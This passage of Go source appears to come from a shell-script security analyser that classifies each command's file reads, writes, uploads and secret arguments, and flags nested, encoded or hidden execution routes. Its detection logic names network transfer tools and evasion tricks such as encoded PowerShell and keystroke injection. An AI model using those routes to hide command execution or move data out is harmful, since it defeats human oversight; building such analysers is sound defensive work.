	case "curl":
		r.curlNames(idx, args, local)
	case "wget", "wget2":
		r.wgetNames(idx, name, args, local)
	case "jar":
		r.extractTo(idx, name, args, local)
		// jar cf out.jar -C DIR .: what follows -C is read below DIR
		if tree, _ := readsTree(name, args); tree {
			for k := 0; k+1 < len(args); k++ {
				if args[k].text == "-C" || args[k].text == "--directory" {
					r.addPath(args[k+1], local, "read", idx, name)
				}
			}
		}
	}
	switch {
	case r.a.shells[name]:
		return nil, r.shell(idx, name, args, local, sc, in)
	case name == "pwsh" || name == "powershell" || name == "powershell.exe":
		// -Command text is judged as a command line (PowerShell's simple
		// commands read like shell ones); an encoded command cannot be read
		for k, a := range args {
			switch strings.ToLower(a.text) {
			case "-c", "-command":
				if k+1 < len(args) {
					rest := make([]string, 0, len(args)-k-1)
					for _, x := range args[k+1:] {
						rest = append(rest, x.text)
					}
					return nil, r.scriptArg(idx, field{text: strings.Join(rest, " "), dynamic: args[k+1].dynamic}, local, sc)
				}
			case "-e", "-ec", "-encodedcommand", "-enc":
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "powershell " + a.text, Cmd: idx})
				return nil, nil
			}
		}
		return nil, r.interpreter(idx, name, args, local, sc, in)
	case r.a.isInterpreter(name):
		return nil, r.interpreter(idx, name, args, local, sc, in)
	}
	if sub, ok := strings.CutPrefix(name, "git-"); ok && sub != "" {
		// git's dashed programs (/usr/lib/git-core/git-reset --hard) are
		// git SUB: judged as that git command
		argv := append([]field{{text: "git", pattern: "git"}, {text: sub, pattern: sub}}, args...)
		_, err := r.simple(argv, st, sc, in, map[string]string{}, nil, []string{name})
		return nil, err
	}
	switch name {
	case "eval":
		return nil, r.evalArgs(idx, args, st, sc)
	case "read", "mapfile", "readarray", "getopts":
		r.forgetAssigned(name, args, st)
		if name != "read" && name != "getopts" {
			// mapfile -C CALLBACK evaluates CALLBACK as a command
			if err := r.commandOption(idx, args, "-C", local, sc); err != nil {
				return nil, err
			}
		}
	case "set":
		if keywordOn(args) {
			// set -k: NAME=value words after a command's name become its
			// environment (parsed so, from this line on), which the
			// analysis takes as arguments
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "set -k: assignments after a command name go to its environment", Cmd: idx})
			return nil, nil
		}
		// set -- A B, set A B: the positional parameters from here on
		for k := 0; k < len(args); k++ {
			a := args[k]
			t := a.text
			if !a.dynamic && (t == "-o" || t == "+o") {
				k++ // set -o pipefail: an option's name
				continue
			}
			if !a.dynamic && (strings.HasPrefix(t, "-") || strings.HasPrefix(t, "+")) && t != "--" && t != "-" {
				continue
			}
			rest := args[k:]
			if t == "--" || t == "-" {
				rest = args[k+1:]
			}
			params := knownTexts(rest)
			if params == nil {
				// set -- $(cmd): $1, $@ could be any absolute path
				for _, n := range []string{"@", "*", "1", "2", "3", "4", "5", "6", "7", "8", "9"} {
					r.markOpen(n)
				}
			}
			st.params = params
			break
		}
	case "compgen":
		// compgen -C COMMAND runs it, -F FUNCTION calls it, and -W's word
		// list is expanded (its substitutions run)
		if err := r.commandOption(idx, args, "-C", local, sc); err != nil {
			return nil, err
		}
		for _, w := range optionValues(args, "-W") {
			// -W WORDS, -W'WORDS', -aW WORDS
			if w.dynamic {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: w.text, Cmd: idx})
			} else if err := r.nested(": "+w.text, local, sc, "nested-shell"); err != nil {
				return nil, err
			}
		}
		if err := r.commandOption(idx, args, "-F", local, sc); err != nil {
			return nil, err
		}
		return nil, nil
	case "unset":
		for _, a := range args {
			if !strings.HasPrefix(a.text, "-") {
				st.forget(a.text)
				delete(st.wild, a.text)
				delete(st.aliases, a.text)
			}
		}
		return nil, nil
	case "hash":
		// hash -p PATH NAME… makes each NAME run PATH (-pPATH, -dp PATH,
		// -- before the names); a spelling not followed (a word that may
		// be an option, PATH or a NAME not known) is unknown
		var path *field
		k := 0
		for ; k < len(args); k++ {
			a := args[k]
			if a.dynamic && (a.wild || strings.HasPrefix(a.pattern, "-") || strings.HasPrefix(a.pattern, "*")) {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "hash " + a.text, Cmd: idx})
				return nil, nil
			}
			if a.text == "--" {
				k++
				break
			}
			if a.dynamic || !strings.HasPrefix(a.text, "-") || a.text == "-" {
				break
			}
			if i := strings.IndexByte(a.text, 'p'); i > 0 {
				switch {
				case i+1 < len(a.text):
					path = &field{text: a.text[i+1:], pattern: a.pattern[min(i+1, len(a.pattern)):], dynamic: a.dynamic}
				case k+1 < len(args):
					path = &args[k+1]
					k++
				}
			}
		}
		if path != nil {
			for _, n := range args[k:] {
				if path.dynamic || n.dynamic {
					r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "hash -p " + path.text + " " + n.text, Cmd: idx})
					return nil, nil
				}
				r.setAlias(st, n.text, shellQuote(path.text))
			}
		}
		return nil, nil
	case "fc":
		// fc -l lists the history; otherwise fc runs history entries
		// (fc -s, fc -e EDITOR …, fc), text history -s or history -r may
		// have put there
		list := false
		for k := 0; k < len(args); k++ {
			t := args[k].text
			if args[k].dynamic || len(t) < 2 || t[0] != '-' || strings.Trim(t[1:], "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") != "" {
				continue
			}
			if strings.Contains(t, "l") {
				list = true
			}
			if strings.HasSuffix(t, "e") {
				k++ // -e EDITOR
			}
		}
		if !list {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "fc re-runs commands from the history", Cmd: idx})
		}
		return nil, nil
	case "history":
		// history -a/-w [FILE] writes the session's history (any text
		// history -s stored) to FILE; -r/-n [FILE] reads it
		access := ""
		for k, a := range args {
			t := a.text
			if !a.dynamic && len(t) > 1 && t[0] == '-' && t != "--" {
				switch {
				case strings.ContainsAny(t, "aw"):
					access = "write"
				case strings.ContainsAny(t, "rn"):
					access = "read"
				}
				continue
			}
			if t == "--" && !a.dynamic {
				continue
			}
			if access != "" && k == len(args)-1 {
				r.addPath(a, local, access, idx, name)
			}
			break
		}
		return nil, nil
	case "ln":
		return nil, r.ln(idx, args, local)
	case "shopt":
		set, setOpts := false, false
		for _, a := range args {
			switch {
			case a.dynamic:
				r.globOpts = true
				if setOpts {
					// shopt -o "$x": set's options, keyword among them
					r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "shopt -o " + a.text, Cmd: idx})
					return nil, nil
				}
			case strings.HasPrefix(a.text, "-"):
				set = set || strings.ContainsRune(a.text, 's')
				setOpts = setOpts || strings.ContainsRune(a.text, 'o')
			case set && a.text == "keyword":
				// shopt -so keyword is set -k (see set)
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "shopt -o keyword: assignments after a command name go to its environment", Cmd: idx})
				return nil, nil
			case set:
				r.setShopt(a.text)
			}
		}
		return nil, nil
	case "source", ".":
		if len(args) > 0 {
			switch {
			case args[0].proc:
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "procsubst_script", Text: args[0].text, Cmd: idx})
			case args[0].dynamic:
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: args[0].text, Cmd: idx})
			case isStdinPath(args[0].text):
				if err := r.stdinScript(idx, st, sc, in, true); err != nil {
					return nil, err
				}
			default:
				p := r.addPath(args[0], local, "exec", idx, name)
				if _, err := r.runsWritten(idx, p, st, sc, true); err != nil {
					return nil, err
				}
			}
		}
		// the sourced file may set anything
		for k := range st.vars {
			st.forget(k)
		}
		st.noEnv = true
		return nil, nil
	case "rename", "rename.ul", "prename", "file-rename", "perl-rename":
		// rename FROM TO FILE…: names (and with -s link targets) changed
		// by a substitution; which links end where is not followed
		for _, a := range args {
			if a.text == "-s" || a.text == "--symlink" || len(r.links) > 0 {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " over symbolic links", Cmd: idx})
				break
			}
		}
	case "enable":
		for _, a := range args {
			if strings.HasPrefix(a.text, "-") && strings.ContainsAny(a.text, "nfd") || a.dynamic {
				// enable -n declare: the name now runs a program or a
				// function, not the builtin the analysis applies
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "enable " + a.text, Cmd: idx})
				break
			}
		}
		return nil, nil
	case "alias":
		for _, a := range args {
			if k, body, ok := strings.Cut(a.text, "="); ok && k != "" {
				if a.dynamic {
					r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: a.text, Cmd: idx})
					continue
				}
				if err := r.nested(body, local, sc, "nested-shell"); err != nil {
					return nil, err
				}
				r.setAlias(st, k, body)
			}
		}
		return nil, nil
	case "return":
		r.leave(st, true, 1)
		return nil, nil
	case "break", "continue":
		levels := 1
		if len(args) > 0 {
			if n, err := strconv.Atoi(args[0].text); err == nil && n > 1 && !args[0].dynamic {
				levels = n
			} else if args[0].dynamic {
				levels = 1 << 10 // break "$n": any loop around
			}
		}
		r.leave(st, false, levels)
		return nil, nil
	case "trap":
		if len(args) > 0 && args[0].text == "--" {
			args = args[1:]
		}
		if len(args) > 1 && args[0].text != "-p" && args[0].text != "-l" {
			if args[0].dynamic {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: args[0].text, Cmd: idx})
				return nil, nil
			}
			for _, sig := range args[1:] {
				switch strings.TrimPrefix(strings.ToUpper(sig.text), "SIG") {
				case "DEBUG", "ERR", "RETURN":
					// run between the script's own commands: what it
					// assigns or changes (x=~, cd ~) holds for the
					// commands after, which were judged without it
					if !plainHandler(args[0].text) {
						r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "trap " + strconvQuote(args[0].text) + " " + sig.text, Cmd: idx})
						return nil, nil
					}
				}
			}
			// the handler runs later (on exit, on a signal): judge it then,
			// with what the script has set by the end
			r.traps = append(r.traps, trap{body: args[0].text, sc: sc})
			return nil, nil
		}
		return nil, nil
	case "cd", "pushd", "popd":
		return nil, r.cd(idx, name, args, st, local)
	case "find":
		return nil, r.find(idx, args, local, sc)
	case "git":
		r.secretArgs(idx, name, args, local)
		return nil, r.git(idx, args, local, sc, in)
	case "cmd", "cmd.exe":
		// cmd /c LINE, cmd /k LINE: the rest is a command line
		for k, a := range args {
			if l := strings.ToLower(a.text); (l == "/c" || l == "/k" || l == "/r") && k+1 < len(args) {
				parts := make([]string, 0, len(args)-k-1)
				for _, x := range args[k+1:] {
					parts = append(parts, x.text)
				}
				if err := r.scriptArg(idx, field{text: strings.Join(parts, " "), dynamic: args[k+1].dynamic}, local, sc); err != nil {
					var stop errStop
					if !errors.As(err, &stop) || stop.pe.Code != CodeSyntax {
						return nil, err // too deep, too complex …: fail closed
					}
					// not bash syntax (cmd's own quoting): judge the words as one command
					_, err = r.simple(args[k+1:], local, sc, stdin{}, map[string]string{}, nil, []string{name})
					return nil, err
				}
				return nil, nil
			}
		}
	case "poetry", "pipenv", "uv", "pdm", "hatch", "rye", "conda", "mamba", "micromamba", "bundle", "direnv", "pnpm", "yarn", "bun", "deno", "nix":
		if done, err := r.runsSub(idx, name, args, st, local, sc, in); done || err != nil {
			return nil, err
		}
	case "nix-shell", "nix-build":
		for k, a := range args {
			if (a.text == "--run" || a.text == "--command") && k+1 < len(args) {
				return nil, r.scriptArg(idx, args[k+1], local, sc)
			}
		}
	case "tmux":
		return nil, r.tmux(idx, args, local, sc)
	case "yq", "gojq", "jaq":
		// yq's load(…), load_str(…) (and kin) read the file they name; -s
		// (--split-exp) writes files an expression names
		for _, a := range args {
			t := a.text
			if a.dynamic && strings.Contains(a.pattern, "load") {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + t, Cmd: idx})
				continue
			}
			if t == "--from-file" || strings.HasPrefix(t, "--from-file=") || name == "yq" && strings.Contains(t, "eval(") {
				// an expression read from a file, or built and evaluated
				// at run time (eval(\"lo\" + \"ad(…)\")): not seen
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + t, Cmd: idx})
				continue
			}
			if (t == "-s" || t == "--split-exp" || strings.HasPrefix(t, "--split-exp=")) && name == "yq" {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + t + " writes files an expression names", Cmd: idx})
				continue
			}
			for _, m := range yqLoad.FindAllStringSubmatch(t, -1) {
				if m[1] == "" {
					r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + t, Cmd: idx})
					continue
				}
				r.addPath(field{text: m[1], pattern: m[1]}, local, "read", idx, name)
			}
		}
	case "xdotool", "ydotool", "wtype", "kitten":
		// keystrokes or text typed into whatever window or terminal has
		// the focus: a command line nobody saw
		for _, a := range args {
			switch a.text {
			case "type", "key", "keydown", "send-text", "exec":
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + a.text, Cmd: idx})
				return nil, nil
			}
		}
		if name == "wtype" && len(args) > 0 {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "wtype", Cmd: idx})
			return nil, nil
		}
	case "xterm", "uxterm", "urxvt", "rxvt", "konsole", "gnome-terminal", "xfce4-terminal", "mate-terminal", "lxterminal",
		"tilix", "terminator", "alacritty", "foot", "kitty", "wezterm", "st", "tini", "dumb-init", "run-one", "watchexec",
		"nodemon", "start-stop-daemon", "mpirun", "mpiexec", "zellij", "cool-retro-term", "qterminal", "sakura", "guake":
		return nil, r.launcher(idx, name, args, local, sc)
	case "go":
		if err := r.goTool(idx, args, local, sc); err != nil {
			return nil, err
		}
	case "make", "gmake":
		if err := r.makeVars(idx, args, local, sc); err != nil {
			return nil, err
		}
	case "sed", "gsed":
		r.sedScript(idx, name, args, local, in)
	case "sqlite3":
		// SQL reaches files and programs through dot-commands and
		// functions: .shell/.system run a command, .output/.once/.read/
		// .import/.load and readfile/writefile/edit/load_extension,
		// ATTACH and VACUUM INTO open files the analyser does not see.
		// The shell takes a dot-command by any unique prefix (.sh is
		// .shell), in the arguments and on its input: only the plain ones
		// (sqliteSafeDots), spelled out, are followed.
		texts := slices.Clip(args)
		for k, a := range args {
			// -init FILE runs the commands in FILE first
			if (a.text == "-init" || a.text == "--init") && k+1 < len(args) {
				f := args[k+1]
				text, ok := "", false
				if !f.dynamic && !f.proc {
					text, ok = r.knownText(r.classifyPath(f, local, "read", idx, name).Real, idx)
				}
				if !ok {
					r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "sqlite3 -init " + f.text, Cmd: idx})
				}
				texts = append(texts, field{text: text, pattern: text})
			}
		}
		if in.kind != "" {
			if text, ok := r.inputText(in, idx); ok {
				texts = append(texts, field{text: text, pattern: text})
			} else {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "stdin_script", Text: "sqlite3 reads commands from its input", Cmd: idx})
			}
		}
		for _, a := range texts {
			if a.dynamic || !sqliteSafe(a.text) {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: a.text, Cmd: idx})
			}
		}
	case "fd", "fdfind":
		if err := r.fdExec(idx, name, args, local, sc); err != nil {
			return nil, err
		}
	case "unzip":
		// without -d (or -l/-t/-p/-Z/-v, which extract nothing) the
		// archive lands in the working directory
		extracts, dest := true, false
		for _, a := range args {
			t := a.text
			if len(t) > 1 && t[0] == '-' && t[1] != '-' {
				for _, c := range t[1:] {
					if c == 'd' {
						dest = true
						break // -dDIR: the rest is the directory
					}
					if strings.ContainsRune("ltpZvz", c) {
						extracts = false
					}
				}
			}
		}
		if extracts && !dest {
			r.addPath(field{text: ".", pattern: "."}, local, "write", idx, name)
		}
		if extracts && !r.unzipMembers(idx, name, args, local) {
			r.opaqueWrites(idx, "unzip of an archive the analysis cannot read")
		}
	case "split", "gsplit", "csplit", "gcsplit":
		r.splitOutputs(idx, name, args, local)
		// --filt=CMD: a long option abbreviated
		args := expandArgs(args, splitLongs...)
		for k, a := range args {
			// split --filter=CMD runs CMD for each piece
			v, ok := strings.CutPrefix(a.text, "--filter=")
			f := field{text: v, pattern: v, dynamic: a.dynamic}
			if !ok && a.text == "--filter" && k+1 < len(args) {
				f, ok = args[k+1], true
			}
			if ok {
				if err := r.scriptArg(idx, f, local, sc); err != nil {
					return nil, err
				}
			}
		}
	case "cp", "install":
		defer r.cpLinks(args, local, false) // after cp's own paths: they are not through the new link
		defer r.carryWritten(args, local, false)
	case "mv":
		defer r.cpLinks(args, local, true)
		defer r.carryWritten(args, local, true)

	case "zip":
		r.zipMove(idx, args, local, in)
		for k, a := range args {
			// -TT CMD, --unzip-command CMD, or a prefix of it (--unz CMD)
			if (a.text == "-TT" || len(a.text) >= 4 && strings.HasPrefix("--unzip-command", a.text)) && k+1 < len(args) {
				if err := r.scriptArg(idx, args[k+1], local, sc); err != nil {
					return nil, err
				}
			} else if v, ok := zipTestCommand(a.text); ok {
				if err := r.scriptArg(idx, field{text: v, pattern: v, dynamic: a.dynamic}, local, sc); err != nil {
					return nil, err
				}
			}
		}
	case "cargo":
		for k, a := range args {
			v := ""
			if a.text == "--config" && k+1 < len(args) {
				v = args[k+1].text
			} else if x, ok := strings.CutPrefix(a.text, "--config="); ok {
				v = x
			}
			if strings.Contains(v, "runner") || strings.Contains(v, "linker") || strings.Contains(v, "wrapper") || strings.Contains(v, "rustc") {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "cargo --config " + v, Cmd: idx})
			}
		}
	case "hyperfine":
		if err := r.hyperfine(idx, args, local, sc); err != nil {
			return nil, err
		}
	case "perf":
		return nil, r.perf(idx, args, local, sc, in)
	case "sort", "gsort":
		if err := r.sortCompressor(idx, args, local, sc); err != nil {
			return nil, err
		}
	case "docker", "podman", "nerdctl":
		r.container(idx, name, args, local)
	case "screen":
		// screen -X stuff TEXT types into a running session; -X exec,
		// eval, screen run commands in it
		for k, a := range args {
			if a.text == "-X" || strings.HasSuffix(a.text, "X") && strings.HasPrefix(a.text, "-") && !strings.HasPrefix(a.text, "--") {
				if k+1 < len(args) {
					switch args[k+1].text {
					case "stuff", "exec", "eval", "screen", "source", "register", "paste", "readbuf", "bindkey", "bind":
						r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "screen -X " + args[k+1].text, Cmd: idx})
						return nil, nil
					}
				}
			}
		}
		k := 0
		for k < len(args) && strings.HasPrefix(args[k].text, "-") {
			if t := args[k].text[1:]; strings.HasSuffix(t, "S") || strings.HasSuffix(t, "c") || strings.HasSuffix(t, "p") || strings.HasSuffix(t, "L") && len(t) > 1 || strings.HasSuffix(t, "t") || strings.HasSuffix(t, "e") || strings.HasSuffix(t, "h") || strings.HasSuffix(t, "T") {
				k++ // the option's value (session name, config file …)
			}
			k++
		}
		if k < len(args) {
			_, err := r.simple(args[k:], local, sc, stdin{}, map[string]string{}, nil, []string{"screen"})
			return nil, err
		}
		return nil, nil
	case "man":
		for k, a := range args {
			if (a.text == "-P" || a.text == "--pager" || a.text == "-H") && k+1 < len(args) {
				if err := r.scriptArg(idx, args[k+1], local, sc); err != nil {
					return nil, err
				}
			} else if v, ok := strings.CutPrefix(a.text, "--pager="); ok {
				if err := r.scriptArg(idx, field{text: v, pattern: v, dynamic: a.dynamic}, local, sc); err != nil {
					return nil, err
				}
			}
		}
	case "less", "more", "most", "vi", "vim", "nvim", "view", "ex", "gvim", "gdb", "lldb":
		if err := r.editorCommands(idx, name, args, local, sc, in); err != nil {
			return nil, err
		}
	case "tar", "bsdtar":
		return nil, r.tar(idx, args, local, sc)
	case "dd":
		for _, a := range args {
			if a.dynamic && !strings.Contains(a.text, "=") {
				// dd $o: the operand could be of=ANYWHERE
				r.addPath(field{text: a.text, pattern: "*", dynamic: true, wild: true}, local, "write", idx, name)
			}
			for _, o := range []struct{ key, access string }{{"if=", "read"}, {"of=", "write"}} {
				if v, ok := strings.CutPrefix(a.text, o.key); ok {
					r.addPath(valueField(a, o.key, v), local, o.access, idx, name)
				}
			}
		}
		return nil, nil
	case "cpio":
		r.cpio(idx, args, local)
	case "rsync":
		r.rsyncDeletes(idx, args, local)
		// -ave CMD, --rs=CMD: options as popt reads them
		args := getoptArgs(args, "e:f:B:T:M:", rsyncLongs)
		for k, a := range args {
			// the remote shell's command line (a value known only at run
			// time is a script nobody saw: scriptArg)
			if (a.text == "-e" || a.text == "--rsh") && k+1 < len(args) {
				if err := r.scriptArg(idx, args[k+1], local, sc); err != nil {
					return nil, err
				}
			} else if v, ok := strings.CutPrefix(a.text, "--rsh="); ok {
				if err := r.scriptArg(idx, field{text: v, pattern: v, dynamic: a.dynamic}, local, sc); err != nil {
					return nil, err
				}
			} else if strings.HasPrefix(a.text, "-e") && len(a.text) > 2 && !strings.HasPrefix(a.text, "--") {
				if err := r.scriptArg(idx, field{text: a.text[2:], pattern: a.text[2:], dynamic: a.dynamic}, local, sc); err != nil {
					return nil, err
				}
			}
		}
	case "ssh", "scp", "sftp", "autossh", "sshfs":
		if err := r.sshOptions(idx, name, args, local, sc); err != nil {
			return nil, err
		}
	case "aws", "gsutil", "rclone", "gh", "az", "s3cmd", "azcopy":
		r.cloudUpload(idx, name, args, local)
	case "http", "https", "xh", "xhs", "httpie":
		for _, a := range args {
			// httpie items: @file is a body from a file, name@file a file field
			if i := strings.IndexByte(a.text, '@'); i >= 0 && !strings.Contains(a.text, "://") && (i == 0 || isName(strings.TrimSuffix(a.text[:i], "="))) && i+1 < len(a.text) {
				f := a.text[i+1:]
				r.addPath(field{text: f, pattern: f, dynamic: a.dynamic}, local, "read", idx, name)
				r.facts.Paths[len(r.facts.Paths)-1].Role = "upload"
			}
		}
	case "socat":
		for _, a := range args {
			for _, pre := range []string{"FILE:", "OPEN:", "GOPEN:", "CREATE:", "file:", "open:", "gopen:"} {
				if f, ok := strings.CutPrefix(a.text, pre); ok {
					f, _, _ = strings.Cut(f, ",")
					r.addPath(field{text: f, pattern: f, dynamic: a.dynamic}, local, "read", idx, name)
					r.facts.Paths[len(r.facts.Paths)-1].Role = "upload"
				}
			}
		}
	case "npx", "npm":
		if local := r.localNodeBin(name, args, local); local != nil {
			_, err := r.simple(local, st, sc, in, map[string]string{}, nil, []string{name})
			// the npx entry itself runs nothing from the registry
			r.facts.Commands[idx].Name = "npx-local"
			return nil, err
		}
		// npm's subcommand: the first word that is not an option (x is
		// exec's alias)
		sub := ""
		for _, a := range args {
			if !strings.HasPrefix(a.text, "-") {
				sub = a.text
				break
			}
		}
		for k, a := range args {
			t := a.text
			if (t == "-c" || t == "--call") && k+1 < len(args) && (name == "npx" || sub == "exec" || sub == "x" || slices.ContainsFunc(args[:k], isNpmExec)) {
				if err := r.scriptArg(idx, args[k+1], local, sc); err != nil {
					return nil, err
				}
				continue
			}
			// options whose value npm runs as a program or a shell
			// command line, under any subcommand, given in full or as a
			// prefix (npm's option parser takes unambiguous ones)
			if key, val, eq := strings.Cut(t, "="); len(key) >= 4 && strings.HasPrefix(key, "--") && !a.dynamic {
				for _, o := range []string{"--call", "--editor", "--browser", "--script-shell", "--shell"} {
					if !strings.HasPrefix(o, key) || o == "--call" && name == "npm" && sub != "exec" && sub != "x" {
						continue
					}
					v := field{text: val, pattern: val, dynamic: a.dynamic}
					if !eq {
						if k+1 >= len(args) {
							break
						}
						v = args[k+1]
					}
					if err := r.scriptArg(idx, v, local, sc); err != nil {
						return nil, err
					}
					break
				}
			}
		}
		if name == "npm" && sub == "explore" {
			// npm explore PKG -- CMD runs CMD by a shell in the package;
			// without one, an interactive shell reads its input
			script := ""
			for k, a := range args {
				if a.text == "--" {
					var words []string
					for _, w := range args[k+1:] {
						if w.dynamic {
							r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "npm explore " + w.text, Cmd: idx})
						}
						words = append(words, w.text)
					}
					script = strings.Join(words, " ")
					break
				}
			}
			if script == "" {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "stdin_script", Text: "npm explore starts a shell", Cmd: idx})
			} else if err := r.nested(script, local, sc, "nested-shell"); err != nil {
				return nil, err
			}
		}
	case "echo", "printf":
		if name == "printf" {
			r.forgetAssigned(name, args, st)
		}
		r.operands(idx, name, args, local)
		if r.shadowed(st, name) {
			return nil, nil
		}
		return r.literalOut(argv, name == "echo", st), nil
	case "cat":
		if r.shadowed(st, name) {
			break
		}
		if len(args) == 0 && in.literal != nil {
			return in.literal, nil
		}
		r.operands(idx, name, args, local)
		r.catOut = r.catText(idx, name, args, local)
		return nil, nil
	}
	r.operands(idx, name, args, local)
	return nil, nil
}

// catText is what cat prints when it only copies files whose text the
// analysis can know (knownText): cat q.sql | sqlite3 db reads what
// sqlite3 db < q.sql would. Any option, a dynamic, glob or process
// operand, or stdin (-) makes it unknown; so do more than 64 KiB. It is
// file data, not text the script wrote: only a program reading its input
// as commands takes it (inputText), the way it takes a redirected file.
func (r *run) catText(idx int, name string, args []field, st *state) *string {
	if len(args) == 0 || len(args) > 16 {
		return nil
	}
	var b strings.Builder
	for _, a := range args {
		if a.dynamic || a.glob || a.globWord || a.proc || strings.HasPrefix(a.text, "-") || isStdinPath(a.text) {
			return nil
		}
		text, ok := r.knownText(r.classifyPath(a, st, "read", idx, name).Real, idx)
		if !ok || b.Len()+len(text) > 64<<10 {
			return nil
		}
		b.WriteString(text)
	}
	s := b.String()
	return &s
}

func cutFold(s, prefix string) (string, bool) {
	if len(s) >= len(prefix) && strings.EqualFold(s[:len(prefix)], prefix) {
		return s[len(prefix):], true
	}
	return "", false
}

// literalOut is what echo/printf print when every argument is static.
func (r *run) literalOut(argv []field, echo bool, st *state) *string {
	var parts []string
	for _, f := range argv[1:] {
		if f.dynamic {
			return nil
		}
		parts = append(parts, f.text)
	}
	cfg := &expand.Config{Env: r.env(st)}
	if echo {
		// with xpg_echo, echo interprets escapes unless told -E; the
		// last of -e and -E wins
		escapes, newline := r.shopts["xpg_echo"], true
		for len(parts) > 0 && len(parts[0]) > 1 && parts[0][0] == '-' && strings.Trim(parts[0][1:], "neE") == "" {
			for _, c := range parts[0][1:] {
				switch c {
				case 'e':
					escapes = true
				case 'E':
					escapes = false
				case 'n':
					newline = false
				}
			}
			parts = parts[1:]
		}
		s := strings.Join(parts, " ")
		if strings.ContainsRune(s, '\\') && r.globOpts {
			return nil // shell options not known: xpg_echo may be on
		}
		if escapes {
			var stop bool
			s, stop = echoEscapes(s)
			if stop {
				newline = false
			}
		}
		if newline {
			s += "\n"
		}
		return &s
	}
	if len(parts) > 0 && parts[0] == "--" {
		parts = parts[1:]
	}
	if len(parts) == 0 || parts[0] == "-v" {
		return nil
	}
	if strings.Contains(parts[0], "b") && strings.Contains(strings.Join(parts[1:], ""), "\\") {
		// %b reads its argument's escapes as echo -e does (\0nnn), not
		// as the format's own (\nnn); the library reads them the other way
		return nil
	}
	out, _, err := expand.Format(cfg, parts[0], parts[1:])
	if err != nil {
		return nil
	}
	return &out
}

// echoEscapes interprets the backslash escapes of echo -e: \a \b \e \E
// \f \n \r \t \v \\, \0NNN (a zero and up to three octal digits), \xHH,
// \uHHHH, \UHHHHHHHH; \c ends the output (stop). Any other backslash
// stays as it is.
func echoEscapes(s string) (out string, stop bool) {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c != '\\' || i+1 >= len(s) {
			b.WriteByte(c)
			continue
		}
		i++
		switch s[i] {
		case 'a':
			b.WriteByte(7)
		case 'b':
			b.WriteByte(8)
		case 'e', 'E':
			b.WriteByte(27)
		case 'f':
			b.WriteByte(12)
		case 'n':
			b.WriteByte('\n')
		case 'r':
			b.WriteByte('\r')
		case 't':
			b.WriteByte('\t')
		case 'v':
			b.WriteByte(11)
		case '\\':
			b.WriteByte('\\')
		case 'c':
			return b.String(), true
		case '0':
			v, n := 0, 0
			for n < 3 && i+1 < len(s) && s[i+1] >= '0' && s[i+1] <= '7' {
				i++
				v = v*8 + int(s[i]-'0')
				n++
			}
			b.WriteByte(byte(v))
		case 'x', 'u', 'U':
			max := map[byte]int{'x': 2, 'u': 4, 'U': 8}[s[i]]
			kind := s[i]
			v, n := 0, 0
			for n < max && i+1 < len(s) && isHex(s[i+1]) {
				i++
				v = v*16 + hexVal(s[i])
				n++
			}
			switch {
			case n == 0:
				b.WriteByte('\\')
				b.WriteByte(kind)
			case kind == 'x':
				b.WriteByte(byte(v))
			default:
				b.WriteRune(rune(v))
			}
		default:
			b.WriteByte('\\')
			b.WriteByte(s[i])
		}
	}
	return b.String(), false
}

func isHex(c byte) bool {
	return c >= '0' && c <= '9' || c >= 'a' && c <= 'f' || c >= 'A' && c <= 'F'
}

func hexVal(c byte) int {
	switch {
	case c >= 'a':
		return int(c-'a') + 10
	case c >= 'A':
		return int(c-'A') + 10
	}
	return int(c - '0')
}

// shadowed reports whether the script redefined name as a function or alias,
// so its output is not what the builtin would print.
func (r *run) shadowed(st *state, name string) bool {
	if _, ok := st.aliases[name]; ok {
		return true
	}
	for _, f := range r.facts.Functions {
		if f.Name == name {
			return true
		}
	}
	return false
}

// keywordOn says whether set (or bash) with args may turn on the keyword
// option: -k in a cluster, -o keyword (the name after a cluster with o),
// or a word not known where an option may stand.
func keywordOn(args []field) bool {
	names := 0 // option names still to come (after -o, -eo, -oo …)
	for _, a := range args {
		switch {
		case a.dynamic:
			return names > 0 || a.wild || strings.HasPrefix(a.pattern, "-") || strings.HasPrefix(a.pattern, "*")
		case names > 0:
			names--
			if a.text == "keyword" {
				return true
			}
